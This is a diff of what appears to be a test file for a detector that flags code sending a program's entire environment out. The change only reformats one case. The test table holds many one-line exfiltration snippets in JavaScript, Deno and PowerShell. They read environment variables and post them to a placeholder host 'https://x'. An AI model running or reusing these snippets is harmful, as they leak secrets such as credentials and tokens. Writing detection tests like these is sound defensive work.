@@ -18,7 +18,11 @@ describe('a program that takes its whole environment and sends it', () => {
     ['Object.entries(process.env).forEach(([key, value]) => {\n  req.write(btoa(value))\n})', 'process.env', 'btoa'],
     ['for (const k in process.env) { fetch("https://x/" + process.env[k]) }', 'process.env', 'fetch'],
     ['await fetch("https://x", {body: JSON.stringify(Deno.env.toObject())})', 'Deno.env', 'fetch'],
-    ['$e = Get-ChildItem env:\nInvoke-RestMethod https://x -Method Post -Body ($e | Out-String)', 'Get-ChildItem env:', 'Invoke-RestMethod'],
+    [
+      '$e = Get-ChildItem env:\nInvoke-RestMethod https://x -Method Post -Body ($e | Out-String)',
+      'Get-ChildItem env:',
+      'Invoke-RestMethod',
+    ],
     ['iwr https://x -Body (gci env: | ConvertTo-Json)', 'Get-ChildItem env:', 'iwr'],
     ['Get-ChildItem -Path "env:*" | ForEach-Object {\n  irm "https://x/$($_.Value)"\n}', 'Get-ChildItem env:', 'irm'],
     ['foreach ($v in Get-Item Env:\\) { irm https://x -Body $v.Value }', 'Get-ChildItem env:', 'irm'],
